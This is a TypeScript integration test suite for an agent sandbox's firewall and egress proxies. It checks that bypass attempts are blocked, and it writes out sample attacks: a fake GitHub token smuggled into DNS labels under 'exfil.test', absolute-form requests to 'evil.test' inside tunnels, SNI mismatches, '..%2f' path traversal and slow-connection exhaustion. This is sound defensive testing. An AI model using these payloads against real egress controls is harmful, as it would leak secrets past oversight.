// Issue 9's bypass classes against the real firewall and egress, in-process
// on loopback with a fake resolver that records every lookup: tunnels serve
// only their own authority, names are scanned before DNS, passthrough is
// held to its SNI, every connection state times out, routes match on
// segment boundaries and ports, and an echoed credential never reaches the
// agent. test/integration/proxy.test.ts covers the same proxies in containers.
import { createHash } from "node:crypto";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:https";
import { connect as netConnect, type AddressInfo, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { connect as tlsConnect } from "node:tls";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ProxyServer } from "../../../../src/sidecars/proxy/proxy-server.js";
import { rawConnect, send, type RequestSpec } from "../../../fixtures/proxy/client.js";
import { createTestCa, writePem } from "../../../helpers/proxy/ca.js";
import { startEgress, startFirewall } from "../../../helpers/proxy/in-process.js";

const TOKEN = `tok-${"7Hq2".repeat(8)}`;
const GHP = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5";
const NAMES: Record<string, string> = { "allowed.test": "127.0.0.1", "other.test": "127.0.0.1", "routed.test": "127.0.0.1", "echo.test": "127.0.0.1" };
const sha = (s: string) => createHash("sha256").update(s).digest("hex");

/** CONNECT, TLS with the given SNI, one raw HTTP/1.1 request; the raw response text (or how it ended). */
function rawTunnelRequest(proxy: string, authority: string, opts: { servername?: string; host?: string; ca: string[]; request: string }): Promise<{ text: string; error?: string }> {
  return rawConnect(proxy, authority).then(
    (answer) =>
      new Promise((resolve) => {
        if (!answer.socket) return resolve({ text: `CONNECT ${answer.status} ${answer.body}` });
        const tls = tlsConnect({
          socket: answer.socket,
          ...(opts.host ? { host: opts.host } : {}),
          ...(opts.servername !== undefined ? { servername: opts.servername } : {}),
          ca: opts.ca,
          ALPNProtocols: ["http/1.1"],
        });
        const chunks: Buffer[] = [];
        tls.on("secureConnect", () => tls.write(opts.request));
        tls.on("data", (c: Buffer) => chunks.push(c));
        tls.on("end", () => resolve({ text: Buffer.concat(chunks).toString("utf8") }));
        tls.on("error", (err: NodeJS.ErrnoException) => resolve({ text: Buffer.concat(chunks).toString("utf8"), error: err.code ?? err.message }));
        setTimeout(() => {
          tls.destroy();
          resolve({ text: Buffer.concat(chunks).toString("utf8"), error: "timeout" });
        }, 5_000).unref();
      }),
  );
}

/** Resolves once `socket` closes, with how long it stayed open; rejects after `maxMs`. */
function closedWithin(socket: Socket, maxMs: number): Promise<number> {
  const t0 = Date.now();
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`still open after ${maxMs} ms`)), maxMs);
    socket.once("close", () => {
      clearTimeout(timer);
      resolve(Date.now() - t0);
    });
    socket.resume();
  });
}

describe("tunnel rules, names before DNS, limits (in-process firewall and egress)", () => {
  let dir: string;
  let upstream: Server;
  let upPort: number;
  let firewall: ProxyServer<unknown>;
  let egress: ProxyServer<unknown>;
  let firewallUrl: string;
  let egressUrl: string;
  let ca: string[];
  let fwCaFile: string;
  const lookups: string[] = [];
  const seen: Array<{ path: string; host: string; sni: string }> = [];
  const logs: string[] = [];
  const resolver = async (name: string) => {
    lookups.push(name);
    const a = NAMES[name] ?? (name.endsWith(".exfil.test") ? "127.0.0.1" : undefined);
    if (!a) throw Object.assign(new Error("not found"), { code: "ENOTFOUND" });
    return [a];
  };

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "proxy-rules-"));
    const [fwCa, egCa, upCa] = await Promise.all([createTestCa("fw"), createTestCa("eg"), createTestCa("up")]);
    const fwFiles = await writePem(join(dir, "fw-ca"), fwCa);
    const egFiles = await writePem(join(dir, "eg-ca"), egCa);
    const upFiles = await writePem(join(dir, "up-ca"), upCa);
    fwCaFile = fwFiles.cert;
    const leaf = await upCa.issue(["allowed.test", "other.test", "routed.test", "echo.test", "*.exfil.test", "127.0.0.1"]);
    ca = [egFiles.cert, fwFiles.cert];

    upstream = createServer({ cert: leaf.cert, key: leaf.key }, (req, res) => {
      const sni = (req.socket as unknown as { servername?: string }).servername ?? "";
      seen.push({ path: req.url ?? "", host: req.headers.host ?? "", sni });
      req.resume();
      // An upstream that takes the request and never answers.
      if (req.url === "/hang") return;
      req.on("end", () => {
        const auth = req.headers.authorization ?? "";
        if (req.url?.startsWith("/echo/gzip")) {
          return void res.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" }).end(gzipSync(`you sent: ${auth}\n`));
        }
        if (req.url?.startsWith("/echo")) {
          // An httpbin-style upstream that reflects the credential in a header and the body.
          return void res.writeHead(200, { "content-type": "text/plain", "x-echo-auth": auth }).end(`you sent: ${auth} (and again: ${auth})\n`);
        }
        res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ path: req.url, host: req.headers.host, auth_sha256: auth ? sha(auth) : null }));
      });
    });
    await new Promise<void>((r) => upstream.listen(0, "127.0.0.1", r));
    upPort = (upstream.address() as AddressInfo).port;

    const fw = await startFirewall(
      join(dir, "firewall.json"),
      {
        version: 1,
        allow: ["allowed.test", "other.test", "routed.test", "echo.test", "*.exfil.test", "127.0.0.1", "*.0.0.2"],
        allow_cidrs: ["127.0.0.0/8"],
        intercept: { enabled: true, ca_cert: fwFiles.cert, ca_key: fwFiles.key, passthrough: ["routed.test", "echo.test", "127.0.0.1"] },
        dlp: {
          enabled: true,
          canary_env: ["TOKEN"],
          canary_exempt: [
            { host: "routed.test", header: "Authorization", env: "TOKEN" },
            { host: "echo.test", header: "Authorization", env: "TOKEN" },
          ],
        },
        upstream_ca_files: [upFiles.cert],
        limits: { max_connections: 40, head_timeout_s: 0.5, handshake_timeout_s: 0.5, idle_timeout_s: 2, max_buffered_body_mb: 1 },
      },
      { env: { TOKEN }, logs, resolve: resolver },
    );
    firewall = fw.proxy;
    firewallUrl = fw.url;

    const eg = await startEgress(
      join(dir, "egress.json"),
      {
        version: 1,
        upstream_proxy: firewallUrl,
        ca_cert: egFiles.cert,
        ca_key: egFiles.key,
        upstream_ca_files: [upFiles.cert, fwFiles.cert],
        routes: [
          { name: "acme", host: "routed.test", port: upPort, path_prefix: "/repos/acme", header: "Authorization", value: "Bearer ${TOKEN}" },
          { name: "echo", host: "echo.test", port: upPort, path_prefix: "/", header: "Authorization", value: "Bearer ${TOKEN}" },
        ],
      },
      { env: { TOKEN }, logs },
    );
    egress = eg.proxy;
    egressUrl = eg.url;
  });

  afterAll(async () => {
    await Promise.all([egress?.close(), firewall?.close()]);
    upstream?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  describe("inside a tunnel, only the tunnel's own authority", () => {
    it("the firewall refuses an absolute-form target naming another host, whatever the Host header says", async () => {
      seen.length = 0;
      const r = await rawTunnelRequest(firewallUrl, `allowed.test:${upPort}`, {
        servername: "allowed.test",
        ca: [await readText(fwCaFile)],
        request: `GET http://evil.test/x HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`,
      });
      expect(r.text).toMatch(/^HTTP\/1\.1 400/);
      expect(r.text).toContain("another authority than the tunnel's");
      expect(seen).toEqual([]);
      for (const target of [`https://other.test:${upPort}/x`, `https://allowed.test:1/x`, "*", `allowed.test:${upPort}`, `https://user@allowed.test:${upPort}/x`]) {
        const r2 = await rawTunnelRequest(firewallUrl, `allowed.test:${upPort}`, {
          servername: "allowed.test",
          ca: [await readText(fwCaFile)],
          request: `GET ${target} HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`,
        });
        expect(r2.text, target).toMatch(/^HTTP\/1\.1 400/);
      }
      expect(seen).toEqual([]);
    });

    it("an absolute-form target naming the tunnel's own authority is sent as origin-form", async () => {
      seen.length = 0;
      const r = await rawTunnelRequest(firewallUrl, `allowed.test:${upPort}`, {
        servername: "allowed.test",
        ca: [await readText(fwCaFile)],
        request: `GET https://ALLOWED.test.:${upPort}/own?q=1 HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`,
      });
      expect(r.text).toMatch(/^HTTP\/1\.1 200/);
      expect(seen).toEqual([{ path: "/own?q=1", host: `allowed.test:${upPort}`, sni: "allowed.test" }]);
    });

    it("egress applies the same rule in its intercepted tunnels", async () => {
      const egCa = await readText(ca[0]!);
      const r = await rawTunnelRequest(egressUrl, `routed.test:${upPort}`, {
        servername: "routed.test",
        ca: [egCa],
        request: `GET http://evil.test/repos/acme/x HTTP/1.1\r\nHost: routed.test\r\nConnection: close\r\n\r\n`,
      });
      expect(r.text).toMatch(/^HTTP\/1\.1 400/);
      expect(r.text).toContain("another authority than the tunnel's");
    });
  });

  describe("secrets in host names are refused before any DNS lookup", () => {
    const cases: Array<[string, Partial<RequestSpec> & { url: string }]> = [
      ["absolute-form URL host", { url: `http://${GHP}.exfil.test/` }],
      ["CONNECT target", { url: `https://${GHP}.exfil.test/` }],
      ["Host header of a plain request", { url: `http://allowed.test:${1}/`, headers: [["Host", `${GHP}.exfil.test`]] }],
      ["canary value as a label", { url: `https://${TOKEN.toLowerCase()}.exfil.test/` }],
    ];
    for (const via of ["firewall", "egress"] as const) {
      for (const [what, spec] of cases) {
        it(`${via}: ${what}`, async () => {
          lookups.length = 0;
          const r = await send({ proxy: via === "firewall" ? firewallUrl : egressUrl, ca, ...spec });
          expect(r.status).toBe(403);
          expect(r.body).toContain("dlp");
          expect(lookups.filter((l) => l.includes("exfil"))).toEqual([]);
          expect(logs.join("")).not.toContain(GHP);
        });
      }
    }

    it("an ordinary name under the same wildcard still resolves and passes", async () => {
      lookups.length = 0;
      const r = await send({ proxy: firewallUrl, ca, url: `https://cdn.exfil.test:${upPort}/` });
      expect(lookups).toContain("cdn.exfil.test");
      expect(r.status).toBe(200);
    });
  });

  describe("passthrough tunnels are held to their SNI", () => {
    it("relays a ClientHello whose SNI is the CONNECT host", async () => {
      const r = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme/x` });
      expect(r.status).toBe(200);
      expect(JSON.parse(r.body).auth_sha256).toBe(sha(`Bearer ${TOKEN}`));
    });

    it("refuses a ClientHello asking for another name, before any byte reaches the upstream", async () => {
      seen.length = 0;
      const r = await rawTunnelRequest(firewallUrl, `routed.test:${upPort}`, { servername: "other.test", ca: [await readText(ca[1]!)], request: "GET / HTTP/1.1\r\nHost: other.test\r\n\r\n" });
      expect(r.error).toBeDefined();
      expect(r.text).toBe("");
      expect(seen).toEqual([]);
      expect(logs.join("")).toMatch(/"event":"tunnel_refused".*"rule":"sni".*asks for \\"other\.test\\"/);
    });

    it("refuses a missing SNI for a name, allows it for an IP literal", async () => {
      const noSni = await rawTunnelRequest(firewallUrl, `routed.test:${upPort}`, { servername: "", ca: [await readText(ca[1]!)], request: "GET / HTTP/1.1\r\nHost: routed.test\r\n\r\n" });
      expect(noSni.error).toBeDefined();
      expect(logs.join("")).toContain("names no server (SNI)");
      const upCa = (await readText(join(dir, "up-ca.pem"))) as string;
      const ip = await rawTunnelRequest(firewallUrl, `127.0.0.1:${upPort}`, {
        host: "127.0.0.1",
        servername: "",
        ca: [upCa],
        request: `GET /ip HTTP/1.1\r\nHost: 127.0.0.1:${upPort}\r\nConnection: close\r\n\r\n`,
      });
      expect(ip.text).toMatch(/^HTTP\/1\.1 200/);
    });

    it("refuses bytes that are not TLS at all", async () => {
      const answer = await rawConnect(firewallUrl, `routed.test:${upPort}`);
      const s = answer.socket!;
      s.write("GET / HTTP/1.1\r\nHost: routed.test\r\n\r\n");
      await closedWithin(s, 3_000);
      expect(logs.join("")).toContain("does not start with a TLS handshake");
    });
  });

  describe("every connection state times out; connections are capped", () => {
    it("closes a passthrough tunnel that never sends its ClientHello", async () => {
      const { socket } = await rawConnect(firewallUrl, `routed.test:${upPort}`);
      expect(await closedWithin(socket!, 3_000)).toBeGreaterThanOrEqual(400);
    });

    it("closes an intercepted tunnel that never sends its ClientHello", async () => {
      const { socket } = await rawConnect(firewallUrl, `allowed.test:${upPort}`);
      expect(await closedWithin(socket!, 3_000)).toBeGreaterThanOrEqual(400);
      expect(logs.join("")).toMatch(/"limit":"handshake_timeout"/);
    });

    it("answers 408 to a decrypted request head that never completes", async () => {
      const answer = await rawConnect(firewallUrl, `allowed.test:${upPort}`);
      const tls = tlsConnect({ socket: answer.socket!, servername: "allowed.test", ca: [await readText(fwCaFile)] });
      await new Promise((r) => tls.once("secureConnect", r));
      tls.write("GET / HTTP/1.1\r\nHost: allow");
      const chunks: Buffer[] = [];
      tls.on("data", (c: Buffer) => chunks.push(c));
      await new Promise<void>((resolve, reject) => {
        const t = setTimeout(() => reject(new Error("no answer")), 5_000);
        tls.once("close", () => {
          clearTimeout(t);
          resolve();
        });
      });
      expect(Buffer.concat(chunks).toString()).toMatch(/^HTTP\/1\.1 408/);
    });

    it("closes an established tunnel after the idle timeout", async () => {
      const answer = await rawConnect(firewallUrl, `127.0.0.1:${upPort}`);
      const tls = tlsConnect({ socket: answer.socket!, host: "127.0.0.1", servername: "", ca: [await readText(join(dir, "up-ca.pem"))] });
      tls.on("error", () => {});
      await new Promise((r) => tls.once("secureConnect", r));
      const ms = await closedWithin(tls as unknown as Socket, 5_000);
      expect(ms).toBeGreaterThanOrEqual(1_800);
    });

    it("answers 504 when the upstream sends nothing for the idle timeout", async () => {
      const t0 = Date.now();
      const r = await send({ proxy: firewallUrl, ca, url: `https://allowed.test:${upPort}/hang` });
      expect(r.status).toBe(504);
      expect(r.body).toContain('"allowed.test" sent nothing for 2 s');
      expect(Date.now() - t0).toBeGreaterThanOrEqual(1_800);
    });

    it("a plain connection that sends nothing is closed after the head timeout", async () => {
      const s = netConnect({ host: "127.0.0.1", port: Number(new URL(firewallUrl).port) });
      await new Promise((r) => s.once("connect", r));
      expect(await closedWithin(s, 3_000)).toBeGreaterThanOrEqual(400);
    });

    it("holds at most max_buffered_body_mb of request bodies at once, and frees it when an upload ends", async () => {
      const port = Number(new URL(firewallUrl).port);
      const big = "x".repeat(700 * 1024);
      // An upload that sends 700 KiB of its 800 KiB and then waits.
      const slow = netConnect({ host: "127.0.0.1", port });
      slow.on("error", () => {});
      await new Promise((r) => slow.once("connect", r));
      slow.write(`POST http://allowed.test:${upPort}/up HTTP/1.1\r\nHost: allowed.test:${upPort}\r\nContent-Length: ${800 * 1024}\r\n\r\n${big}`);
      await new Promise((r) => setTimeout(r, 200));
      const busy = await send({ proxy: firewallUrl, ca, url: `http://allowed.test:${upPort}/up`, method: "POST", body: big });
      expect(busy.status).toBe(503);
      expect(busy.body).toContain("already holding 1 MiB of request bodies");
      slow.destroy();
      await new Promise((r) => setTimeout(r, 100));
      const after = await send({ proxy: firewallUrl, ca, url: `http://allowed.test:${upPort}/up`, method: "POST", body: big });
      expect(after.status).not.toBe(503);
    });

    it("refuses connections over the cap with a readable 503, and serves again once they close", async () => {
      const port = Number(new URL(firewallUrl).port);
      const held: Socket[] = [];
      // Keep 40 connections busy (each resends a header byte so no timeout fires).
      for (let i = 0; i < 40; i++) {
        const s = netConnect({ host: "127.0.0.1", port });
        await new Promise((r) => s.once("connect", r));
        s.write("GET http://allowed.test/ HTTP/1.1\r\n");
        s.on("error", () => {});
        held.push(s);
      }
      await new Promise((r) => setTimeout(r, 50));
      const over = await send({ proxy: firewallUrl, ca, url: `http://allowed.test:${upPort}/` });
      expect(over.status).toBe(503);
      expect(over.body).toMatch(/too many open connections from this bottle \(limit 40\)/);
      for (const s of held) s.destroy();
      await new Promise((r) => setTimeout(r, 100));
      const health = await fetch(`${firewallUrl}/health`);
      expect(health.status).toBe(200);
    });
  });

  describe("egress routes", () => {
    it("match prefixes on segment boundaries", async () => {
      const ok = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme/app` });
      expect(JSON.parse(ok.body).auth_sha256).toBe(sha(`Bearer ${TOKEN}`));
      const evil = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme-evil/app` });
      expect(evil.status).toBe(200);
      expect(JSON.parse(evil.body).auth_sha256).toBeNull();
    });

    it("refuse encoded dot segments that leave the prefix", async () => {
      seen.length = 0;
      const r = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme/..%2f..%2fadmin` });
      expect(r.status).toBe(400);
      expect(r.body).toContain("percent-decoded");
      expect(seen).toEqual([]);
    });

    it("match the port: the same host on another port gets no credential", async () => {
      const r = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort + 1 > 65535 ? upPort - 1 : upPort + 1}/repos/acme/x` });
      // Not routed: egress tunnels it to the firewall untouched (nothing listens there, so it fails; no interception happened).
      expect(r.status === 502 || r.phase === "error").toBe(true);
      expect(logs.join("")).not.toMatch(new RegExp(`"tls":"intercepted"[^\\n]*"port":${upPort + 1}`));
    });

    it("mask a credential the upstream echoes back, in headers and body, also when compressed", async () => {
      const r = await send({ proxy: egressUrl, ca, url: `https://echo.test:${upPort}/echo` });
      expect(r.status).toBe(200);
      expect(r.body).not.toContain(TOKEN);
      expect(r.body).toContain("you sent: ");
      expect(r.body).toMatch(/\*{10,}/);
      const raw = await rawTunnelRequest(egressUrl, `echo.test:${upPort}`, {
        servername: "echo.test",
        ca: [await readText(ca[0]!)],
        request: `GET /echo/gzip HTTP/1.1\r\nHost: echo.test\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`,
      });
      expect(raw.text).toMatch(/^HTTP\/1\.1 200/);
      expect(raw.text).not.toContain(TOKEN);
      expect(raw.text).not.toMatch(/content-encoding/i);
      expect(raw.text).toContain("you sent: ");
      const withHeader = await rawTunnelRequest(egressUrl, `echo.test:${upPort}`, {
        servername: "echo.test",
        ca: [await readText(ca[0]!)],
        request: `GET /echo HTTP/1.1\r\nHost: echo.test\r\nConnection: close\r\n\r\n`,
      });
      // The credential is masked; the constant part of the route's template ("Bearer ") may stay.
      expect(withHeader.text).toMatch(/x-echo-auth: (Bearer )?\*{20,}\r\n/i);
      expect(withHeader.text).not.toContain(TOKEN);
      expect(logs.join("")).toContain('"credential_masked"');
    });

    it("scan the agent's own request to a routed host (DLP beyond the injected header)", async () => {
      seen.length = 0;
      const r = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme/upload`, method: "POST", body: JSON.stringify({ note: GHP }) });
      expect(r.status).toBe(403);
      expect(r.body).toMatch(/blocked by dlp/);
      const canary = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme/x?t=${TOKEN}` });
      expect(canary.status).toBe(403);
      // A request without a body is scanned in the same turn it arrives (no wait for its body): headers too.
      const inHeader = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme/x`, headers: [["X-Note", GHP]] });
      expect(inHeader.status).toBe(403);
      expect(inHeader.body).toMatch(/blocked by dlp: .*header "x-note"/);
      expect(seen).toEqual([]);
      // The header egress replaces is not the agent's to leak: a placeholder there is fine.
      const ok = await send({ proxy: egressUrl, ca, url: `https://routed.test:${upPort}/repos/acme/x`, headers: [["Authorization", "Bearer placeholder"]] });
      expect(ok.status).toBe(200);
    });
  });

  describe("smaller holes", () => {
    it("a wildcard pattern never matches an IP literal", async () => {
      // "*.0.0.2" is in the allowlist and 127.0.0.0/8 may be dialed; 127.0.0.2 is still not allowed.
      const viaPattern = await send({ proxy: firewallUrl, ca, url: `http://127.0.0.2:${upPort}/` });
      expect(viaPattern.status).toBe(403);
      expect(viaPattern.body).toContain('blocked by allowlist: host "127.0.0.2" is not in the allowlist');
    });
  });
});

async function readText(file: string): Promise<string> {
  const { readFile } = await import("node:fs/promises");
  return readFile(file, "utf8");
}
